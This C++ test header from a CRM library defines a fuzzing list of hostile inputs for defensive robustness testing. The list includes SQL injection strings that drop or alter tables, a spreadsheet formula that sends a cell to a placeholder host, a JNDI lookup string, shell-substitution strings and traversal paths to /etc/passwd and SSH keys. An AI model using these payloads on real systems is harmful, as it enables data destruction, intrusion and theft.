/// Texts that have broken other programs: they leave a quoted place, a query, a cell, a format or a
/// folder where a program pastes texts together.
#pragma once

#include <span>
#include <string>
#include <string_view>
#include <vector>

namespace crmkit::test {

namespace detail {

/// What ends a quoted or bracketed place in SQL or in an expression.
inline constexpr std::string_view escapes[] = {
    "'",  "\"",  "`",   "]",   ")",        "')",           "'))", "\\'",  "''",
    "*/", "'||", "' ;", "%27", "\xCA\xBC", "\xEF\xBC\x87", "x'",  "0x27", "\xC2\xBF'",
};

/// What to do once outside.
inline constexpr std::string_view acts[] = {
    " OR 1=1 --",
    " OR 'a'='a",
    "; DROP TABLE crm_accounts; --",
    "; DELETE FROM crm_contacts; --",
    "; UPDATE crm_accounts SET name='x'; --",
    "; INSERT INTO crm_users(id) VALUES (1); --",
    "; ATTACH DATABASE 'x.db' AS x; --",
    "; PRAGMA writable_schema=1; --",
    "; PRAGMA journal_mode=OFF; VACUUM; --",
    "; COMMIT; BEGIN; --",
    "; ROLLBACK TO crmkit; --",
    " UNION SELECT sql FROM sqlite_master --",
    " UNION ALL SELECT 1,2,3,4,5,6 --",
    " AND load_extension('x') --",
    " AND randomblob(1000000000) --",
    " AND (SELECT count(*) FROM crm_users)>0 --",
    " order by (case when 1=1 then id end)",
    " LIMIT -1 OFFSET 5 --",
    "/*!50000 OR*/ 1=1",
    " OR name LIKE '%' ESCAPE '\\",
    " limit 1; select 1",
    " and owner.email != null or deleted_at != null",
    " COLLATE NOCASE --",
    " --\n DROP TABLE crm_changes",
};

inline constexpr std::string_view search_texts[] = {
    "\"",
    "\"\"",
    "*",
    "a*",
    "a* OR b*",
    "NEAR(a b)",
    "NEAR(a b, 999999999)",
    "a AND NOT b",
    "NOT a",
    "^a",
    "name:a",
    "{name email}: a",
    "- a",
    "a + b",
    "\"a\" \"b\"*",
    "a\"b",
    "rank MATCH 'bm25(10)'",
    "AND",
    "OR",
    "NOT",
    "(a",
    "a)",
    "((((((",
    "a\\*",
    "\"unclosed",
    "crm_search:a",
    "a OR rowid:1",
    "rebuild",
    "delete-all",
    "integrity-check",
};

inline constexpr std::string_view expressions[] = {
    ":name",
    ":",
    "::",
    ":a:b",
    "?1",
    "@a",
    "$a",
    "null",
    "true",
    "count()",
    "sum(amount)",
    "name = name",
    "name like '%'",
    "owner.owner.owner",
    "is_deleted",
    "deleted_at != null",
    "exists(contacts)",
    "count(contacts where true) > 0",
    "today()",
    "me()",
    "0 = 0",
    "a in (select 1)",
    "case when true then 1 end",
    "cast(a as text)",
    "name || name",
    "1/0",
    "-9223372036854775808",
    "9223372036854775808",
    "1e999",
    "0x7FFFFFFFFFFFFFFF",
};

inline constexpr std::string_view cells[] = {
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x\",\"y\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
    ";=1+1",
    ",=1+1",
    "\"=1+1",
    "'=1+1",
    "\xEF\xBC\x9D"
    "1+1",
    "a,b\r\nc,d",
    "a;b",
    "a\"b\"\"c",

    "\r\n",
};

inline constexpr std::string_view formats[] = {
    "%s%s%s%s%n",
    "%n",
    "%99999999d",
    "%1$s",
    "{}",
    "{0}",
    "{:>999999999}",
    "{{",
    "}}",
    "{0.__class__}",
    "${jndi:ldap://x/a}",
    "$(id)",
    "`id`",
    "|id",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "<%= 7*7 %>",
    "&lt;b&gt;",
    "\\x41",
    "\\u0000",
    "\\0",
    "%00",
    "\x1B[31m",
    "\x07",
    "\x7F",
};

inline constexpr std::string_view paths[] = {
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\boot.ini",
    "file:///etc/passwd",
    "file:x.db?mode=memory",
    "file:x?vfs=unix-none&nolock=1",
    ":memory:",
    "\\\\server\\share",
    "/dev/null",
    "/proc/self/mem",
    "CON",
    "NUL",
    "a/../b",
    "....//....//x",
    "%2e%2e%2f",
    "..%c0%af",
    "~/.ssh/id_rsa",
    "-rf",
    "x.db-wal",
};

inline constexpr std::string_view characters[] = {
    "\xE2\x80\xAE"
    "txt.exe",  // right-to-left override
    "a\xE2\x80\x8B"
    "b",  // zero width space
    "\xEF\xBB\xBF"
    "mark",                                          // byte order mark
    "\xE2\x80\xA8line\xE2\x80\xA9",                  // line and paragraph separators
    "e\xCC\x81 and \xC3\xA9",                        // one letter, two spellings
    "\xEF\xBD\x81\xEF\xBD\x82",                      // full width
    "\xC4\xB0I\xC4\xB1i",                            // the Turkish i's
    "\xC3\x9F\xE1\xBA\x9E",                          // sharp s, small and capital
    "\xCF\x82\xCF\x83\xCE\xA3",                      // sigmas
    "\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x9A\x80",  // joined pictures
    "\xF4\x8F\xBF\xBF",                              // the last code point
    "\xEF\xBF\xBF",                                  // no character
    "\xEF\xBF\xBD",                                  // the replacement
    "\xEE\x80\x80",                                  // private use
    "\xE1\x85\x9F",                                  // a filler that is not seen
    "\xD8\xA7\xD9\x84",                              // right to left
    "Z\xCD\x91\xCC\x92\xCC\x92\xCC\x9B",             // many marks
    "\xEF\xB7\xBA",                                  // eighteen characters when decomposed
    "\xC2\xA0 \xE3\x80\x80",                         // spaces
    "\xC2\xAD",                                      // soft hyphen
    " leading and trailing ",
    "\t",
    " ",
    "a\nb",
    "a\rb",
    "a\vb\f",
    "\\",
    "\\\\",
    "|",
};

}  // namespace detail

/// 500 and more texts, each of valid UTF-8 without NUL and of at most 64 bytes.
inline std::vector<std::string> hostile_texts() {
    std::vector<std::string> texts;
    for (const std::string_view escape : detail::escapes) {
        for (const std::string_view act : detail::acts) {
            texts.push_back(std::string(escape).append(act));
        }
    }
    using Texts = std::span<const std::string_view>;
    for (const Texts list :
         {Texts(detail::search_texts), Texts(detail::expressions), Texts(detail::cells),
          Texts(detail::formats), Texts(detail::paths), Texts(detail::characters)}) {
        texts.insert(texts.end(), list.begin(), list.end());
    }
    return texts;
}

}  // namespace crmkit::test
